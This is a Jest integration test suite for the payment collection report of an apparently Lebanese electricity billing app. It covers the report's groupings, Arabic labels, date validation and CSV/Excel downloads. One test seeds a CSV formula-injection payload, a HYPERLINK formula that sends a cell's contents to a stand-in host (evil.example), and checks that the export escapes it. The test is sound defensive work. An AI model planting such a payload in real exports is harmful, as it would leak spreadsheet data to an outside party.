import { Workbook } from 'exceljs';
import { parse as parseCsv } from 'papaparse';
import type TestAgent from 'supertest/lib/agent';
import { ExchangeRate, Lbp, Money } from '@kahraba/billing-domain';
import { insertPayment, refreshPaidFromLedger, tablesOf, voidPayments } from '@kahraba/persistence';
import { Database } from '../../application/database/sql-database.provider';
import { SystemCatalog } from '../../application/systems/system-catalog';
import { startTestApp, type TestApp } from '../../testing/test-app';

interface Customer {
  id: string;
  customerNumber: number;
  name: string;
  box: string | null;
  month: string;
}

interface PaymentFields {
  customer: Customer;
  system: string;
  amount: string;
  receivedAt: string;
  receivedBy: string;
  currency?: 'USD' | 'LBP';
  amountLbp?: number;
  method?: 'cash' | 'bank_transfer' | 'money_transfer';
  voided?: boolean;
}

/** Reads a binary answer (xlsx) whole. */
function binary(answer: unknown, done: (error: Error | null, body: Buffer) => void): void {
  const response = answer as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
}

describe('the collection report', () => {
  let testApp: TestApp;
  let rania: TestAgent;
  let visitor: TestAgent;
  let db: Database;

  const userOf = async (firstName: string) => {
    const [user] = await db.query<{ id: string; email: string }>(
      'SELECT id, email FROM users WHERE first_name = $1',
      [firstName],
    );
    return user;
  };

  /** A payment written by the ledger's own store, received at a chosen moment by a chosen collector. */
  async function pay(fields: PaymentFields): Promise<void> {
    await db.transaction(async (tx) => {
      const payment = await insertPayment(tx, {
        system: fields.system,
        recordId: fields.customer.id,
        customerNumber: fields.customer.customerNumber,
        customerName: fields.customer.name,
        box: fields.customer.box,
        billingMonth: fields.customer.month,
        amount: Money.parse(fields.amount),
        currency: fields.currency ?? 'USD',
        amountLbp: fields.amountLbp === undefined ? null : Lbp.ofPounds(fields.amountLbp),
        exchangeRate: ExchangeRate.of(89_500),
        method: fields.method ?? 'cash',
        note: 'ملاحظة',
        source: 'collection',
        receivedAt: new Date(fields.receivedAt),
        receivedBy: fields.receivedBy,
        clientId: null,
        batchId: null,
      });
      if (fields.voided)
        await voidPayments(tx, [payment.id], { actor: fields.receivedBy, reason: 'خطأ في المبلغ' });
    });
  }

  /** amount_paid is the live month's payments not void; the balance carries the arrears. */
  async function refreshPaid(): Promise<void> {
    const catalog = testApp.app.get(SystemCatalog);
    await db.transaction(async (tx) => {
      for (const system of ['ampere', 'mahmoud-kwh'])
        await refreshPaidFromLedger(tx, tablesOf(await catalog.find(system)), 'all');
    });
  }

  const report = (query: Record<string, string>) => rania.get('/api/payments/report').query(query);

  let a: Customer;
  let b: Customer;
  let c: Customer;
  let d: Customer;
  let cTotal: number;
  let raniaEmail: string;
  let jadEmail: string;

  beforeAll(async () => {
    testApp = await startTestApp();
    db = testApp.app.get(Database);
    rania = await testApp.signedInAgent('رانيا');
    const jad = await testApp.signedInAgent('جاد');
    visitor = testApp.agent();
    raniaEmail = (await userOf('رانيا')).email;
    jadEmail = (await userOf('جاد')).email;

    const ampere = async (name: string, box: string, ampereCount: number) =>
      (
        await rania
          .post('/api/ampere-records')
          .send({ name, box, ampere: ampereCount, amperePrice: 5, force: true })
          .expect(201)
      ).body as Customer;
    a = await ampere('أحمد سليم', '7', 10); // 50
    b = await ampere('بشير عون', '9', 4); // 20
    d = await ampere('داني فرح', '7', 2); // 10
    const created = await jad
      .post('/api/mahmoud-kwh-customers')
      .send({ name: 'كمال نادر', box: '7', ampere: 5, previousKwh: 100, currentKwh: 150, pricePerKwh: 0.5 })
      .expect(201);
    c = created.body as Customer;
    cTotal = (created.body as { totalAmount: number }).totalAmount;
    // B owes 15 from last month.
    await db.query('UPDATE ampere_records SET arrears = 15 WHERE id = $1', [b.id]);

    // In Lebanon in November the clock is UTC+2: 21:59Z is 23:59 the same day, 22:00Z is the next day.
    await pay({
      customer: a,
      system: 'ampere',
      amount: '20',
      receivedAt: '2026-11-02T08:00:00Z',
      receivedBy: raniaEmail,
    });
    await pay({
      customer: b,
      system: 'ampere',
      amount: '10',
      method: 'bank_transfer',
      receivedAt: '2026-11-02T21:59:00Z',
      receivedBy: jadEmail,
    });
    await pay({
      customer: c,
      system: 'mahmoud-kwh',
      amount: '10',
      currency: 'LBP',
      amountLbp: 895_000,
      method: 'money_transfer',
      receivedAt: '2026-11-02T22:00:00Z',
      receivedBy: raniaEmail,
    });
    await pay({
      customer: a,
      system: 'ampere',
      amount: '5.55',
      receivedAt: '2026-11-03T10:00:00Z',
      receivedBy: 'cli:owner',
    });
    // Void: never counted.
    await pay({
      customer: b,
      system: 'ampere',
      amount: '7',
      receivedAt: '2026-11-03T11:00:00Z',
      receivedBy: jadEmail,
      voided: true,
    });
    // Outside the period: 23:59 on 1 November and 00:00 on 4 November in Lebanon.
    await pay({
      customer: c,
      system: 'mahmoud-kwh',
      amount: '3',
      receivedAt: '2026-11-01T21:59:00Z',
      receivedBy: raniaEmail,
    });
    await pay({
      customer: a,
      system: 'ampere',
      amount: '4',
      receivedAt: '2026-11-03T22:00:00Z',
      receivedBy: raniaEmail,
    });
    // D paid more than it owes (a credit of 5).
    await pay({
      customer: d,
      system: 'ampere',
      amount: '15',
      receivedAt: '2026-10-20T09:00:00Z',
      receivedBy: raniaEmail,
    });
    await refreshPaid();
  });
  afterAll(() => testApp.close());

  const period = { from: '2026-11-02', to: '2026-11-03' };
  const totals = { count: 4, totalUsd: 45.55, usdReceived: 35.55, lbpReceived: 895_000 };

  it('sums the payments of each day in Lebanon, void ones left out, in dollars and pounds', async () => {
    const response = await report({ ...period, by: 'day' }).expect(200);
    expect(response.body).toMatchObject({
      from: '2026-11-02',
      to: '2026-11-03',
      by: 'day',
      rows: [
        {
          key: '2026-11-02',
          label: 'الاثنين 2 تشرين الثاني 2026',
          count: 2,
          totalUsd: 30,
          usdReceived: 30,
          lbpReceived: 0,
        },
        {
          key: '2026-11-03',
          label: 'الثلاثاء 3 تشرين الثاني 2026',
          count: 2,
          totalUsd: 15.55,
          usdReceived: 5.55,
          lbpReceived: 895_000,
        },
      ],
      totals,
    });
    expect(Object.keys(response.body as object).sort()).toEqual([
      'boxes',
      'by',
      'from',
      'rows',
      'to',
      'totals',
    ]);
  });

  it('names each collector, the one who collected most first', async () => {
    const response = await report({ ...period, by: 'collector' }).expect(200);
    expect(response.body.rows).toEqual([
      {
        key: raniaEmail,
        label: 'رانيا الحلبي',
        count: 2,
        totalUsd: 30,
        usdReceived: 20,
        lbpReceived: 895_000,
      },
      { key: jadEmail, label: 'جاد الحلبي', count: 1, totalUsd: 10, usdReceived: 10, lbpReceived: 0 },
      {
        key: 'cli:owner',
        label: 'سطر الأوامر (owner)',
        count: 1,
        totalUsd: 5.55,
        usdReceived: 5.55,
        lbpReceived: 0,
      },
    ]);
    expect(response.body.totals).toEqual(totals);
  });

  it('groups by system under its Arabic name, and by method in Arabic', async () => {
    const systems = await report({ ...period, by: 'system' }).expect(200);
    expect(systems.body.rows).toEqual([
      {
        key: 'ampere',
        label: 'اشتراكات الأمبير',
        count: 3,
        totalUsd: 35.55,
        usdReceived: 35.55,
        lbpReceived: 0,
      },
      {
        key: 'mahmoud-kwh',
        label: 'كيلوواط محمود',
        count: 1,
        totalUsd: 10,
        usdReceived: 0,
        lbpReceived: 895_000,
      },
    ]);
    const methods = await report({ ...period, by: 'method' }).expect(200);
    expect(methods.body.rows).toEqual([
      { key: 'cash', label: 'نقداً', count: 2, totalUsd: 25.55, usdReceived: 25.55, lbpReceived: 0 },
      { key: 'bank_transfer', label: 'تحويل مصرفي', count: 1, totalUsd: 10, usdReceived: 10, lbpReceived: 0 },
      {
        key: 'money_transfer',
        label: 'شركة تحويل أموال (OMT، Whish)',
        count: 1,
        totalUsd: 10,
        usdReceived: 0,
        lbpReceived: 895_000,
      },
    ]);
    expect(methods.body.totals).toEqual(totals);
  });

  it('groups by box of each system', async () => {
    const response = await report({ ...period, by: 'box' }).expect(200);
    expect(
      response.body.rows.map((row: { key: string; label: string; totalUsd: number }) => [
        row.key,
        row.label,
        row.totalUsd,
      ]),
    ).toEqual([
      ['ampere:7', 'اشتراكات الأمبير · صندوق 7', 25.55],
      ['ampere:9', 'اشتراكات الأمبير · صندوق 9', 10],
      ['mahmoud-kwh:7', 'كيلوواط محمود · صندوق 7', 10],
    ]);
  });

  it('shows each box of the live month: charges, what was paid of them, what is still owed', async () => {
    const response = await report(period).expect(200);
    expect(response.body.boxes).toEqual([
      // A 50 + D 10; paid 29.55 + 15; A still owes 20.45, D's credit of 5 lowers nobody's debt
      { system: 'ampere', box: '7', billed: 60, collected: 44.55, outstanding: 20.45 },
      // B 20 plus 15 of arrears; 10 paid (the void 7 is not)
      { system: 'ampere', box: '9', billed: 20, collected: 10, outstanding: 25 },
      {
        system: 'mahmoud-kwh',
        box: '7',
        billed: cTotal,
        collected: 13,
        outstanding: Math.round((cTotal - 13) * 100) / 100,
      },
    ]);
  });

  it('keeps to one system when asked', async () => {
    const response = await report({ ...period, by: 'day', system: 'ampere' }).expect(200);
    expect(response.body.rows.map((row: { totalUsd: number }) => row.totalUsd)).toEqual([30, 5.55]);
    expect(response.body.totals).toEqual({ count: 3, totalUsd: 35.55, usdReceived: 35.55, lbpReceived: 0 });
    expect(response.body.boxes.map((box: { system: string }) => box.system)).toEqual(['ampere', 'ampere']);
  });

  it('takes one day alone, and a day without payments is an empty report', async () => {
    const first = await report({ from: '2026-11-03', to: '2026-11-03' }).expect(200);
    expect(first.body.totals).toEqual({ count: 2, totalUsd: 15.55, usdReceived: 5.55, lbpReceived: 895_000 });
    const none = await report({ from: '2026-06-01', to: '2026-06-30', by: 'collector' }).expect(200);
    expect(none.body).toMatchObject({
      rows: [],
      totals: { count: 0, totalUsd: 0, usdReceived: 0, lbpReceived: 0 },
    });
  });

  it('refuses a day that does not exist, a start after the end, a period over 366 days, an unknown grouping', async () => {
    const cases: [Record<string, string>, string][] = [
      [{ from: '2026-02-30', to: '2026-03-01' }, 'تاريخ البداية غير صالح، اكتبه بالشكل 2026-11-24'],
      [{ from: '2026-11-01', to: 'tomorrow' }, 'تاريخ النهاية غير صالح، اكتبه بالشكل 2026-11-30'],
      [{ from: '2026-11-05', to: '2026-11-01' }, 'تاريخ البداية بعد تاريخ النهاية'],
      [{ from: '2025-01-01', to: '2026-01-02' }, 'الفترة أطول من 366 يوماً: اختر فترة أقصر'],
    ];
    for (const [query, message] of cases) {
      const response = await report(query).expect(400);
      expect(response.body.message).toBe(message);
    }
    const group = await report({ ...period, by: 'customer' }).expect(400);
    expect(group.body.message).toContain('طريقة التجميع غير معروفة');
    const system = await report({ ...period, system: 'solar' }).expect(404);
    expect(system.body.message).toBe('نظام الفوترة غير معروف');
  });

  it('is for signed-in users only', async () => {
    await visitor.get('/api/payments/report').query(period).expect(401);
    await visitor.get('/api/payments/report.csv').query(period).expect(401);
    await visitor.get('/api/payments/report.xlsx').query(period).expect(401);
  });

  it('downloads as CSV that Excel opens in Arabic: the groups, their totals, then the boxes', async () => {
    const response = await rania
      .get('/api/payments/report.csv')
      .query({ ...period, by: 'method' })
      .expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="payments-method-2026-11-02-2026-11-03.csv"',
    );
    expect(response.text.startsWith('\uFEFF')).toBe(true);
    expect(response.text.slice(1).split('\r\n')).toEqual([
      'طريقة الدفع,عدد الدفعات,المجموع بالدولار,المقبوض بالدولار,المقبوض بالليرة',
      'نقداً,2,25.55,25.55,0',
      'تحويل مصرفي,1,10,10,0',
      'شركة تحويل أموال (OMT، Whish),1,10,0,895000',
      'المجموع,4,45.55,35.55,895000',
      '',
      'النظام,الصندوق,فواتير الشهر بالدولار,المقبوض منها بالدولار,المتبقي على الزبائن بالدولار',
      'اشتراكات الأمبير,7,60,44.55,20.45',
      'اشتراكات الأمبير,9,20,10,25',
      `كيلوواط محمود,7,${cTotal},13,${Math.round((cTotal - 13) * 100) / 100}`,
      '',
    ]);
  });

  it('downloads CSV that stays data: a collector or a box written like a formula gains an apostrophe, amounts stay numbers', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const created = await rania
      .post('/api/baydawi-kwh-customers')
      .send({ name: hyperlink, box: '-عميل', ampere: 5, previousKwh: 0, currentKwh: 20, pricePerKwh: 0.5 })
      .expect(201);
    const customer = created.body as Customer;
    // A collector without a user account is named by what the payment recorded.
    const day = { receivedAt: '2026-12-05T08:00:00Z', customer, system: 'baydawi-kwh' };
    await pay({ ...day, amount: '7.5', receivedBy: hyperlink });
    await pay({ ...day, amount: '2', receivedBy: '+961 3 123456' });

    const response = await rania
      .get('/api/payments/report.csv')
      .query({ from: '2026-12-05', to: '2026-12-05', by: 'collector', system: 'baydawi-kwh' })
      .expect(200);
    const { data, errors } = parseCsv<(string | number)[]>(response.text.replace(/^\uFEFF/, ''), {
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    expect(data.slice(0, 4)).toEqual([
      ['الجابي', 'عدد الدفعات', 'المجموع بالدولار', 'المقبوض بالدولار', 'المقبوض بالليرة'],
      [`'${hyperlink}`, 1, 7.5, 7.5, 0],
      ["'+961 3 123456", 1, 2, 2, 0],
      ['المجموع', 2, 9.5, 9.5, 0],
    ]);
    expect(data.slice(5)).toEqual([
      ['كيلوواط البيضاوي', "'-عميل", expect.any(Number), expect.any(Number), expect.any(Number)],
    ]);
    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('downloads as an Excel workbook, right to left, numbers as numbers', async () => {
    const response = await rania
      .get('/api/payments/report.xlsx')
      .query({ ...period, by: 'day' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toContain('payments-day-2026-11-02-2026-11-03.xlsx');
    const workbook = new Workbook();
    await workbook.xlsx.load(response.body as unknown as ArrayBuffer);
    const [payments, boxes] = workbook.worksheets;
    expect(payments.views[0]).toMatchObject({ rightToLeft: true, state: 'frozen', ySplit: 1 });
    const values = (sheet: typeof payments) => {
      const rows: unknown[][] = [];
      sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
      return rows;
    };
    expect(values(payments)).toEqual([
      ['اليوم', 'عدد الدفعات', 'المجموع بالدولار', 'المقبوض بالدولار', 'المقبوض بالليرة'],
      ['الاثنين 2 تشرين الثاني 2026', 2, 30, 30, 0],
      ['الثلاثاء 3 تشرين الثاني 2026', 2, 15.55, 5.55, 895_000],
      ['المجموع', 4, 45.55, 35.55, 895_000],
    ]);
    expect(payments.getRow(4).font).toMatchObject({ bold: true });
    expect(boxes.name).toBe('الصناديق');
    expect(values(boxes)[1]).toEqual(['اشتراكات الأمبير', '7', 60, 44.55, 20.45]);
  });

  it('refuses a bad period on the downloads too, in Arabic', async () => {
    const response = await rania
      .get('/api/payments/report.csv')
      .query({ from: '2026-11-05', to: '2026-11-01' })
      .expect(400);
    expect(response.body.message).toBe('تاريخ البداية بعد تاريخ النهاية');
  });
});
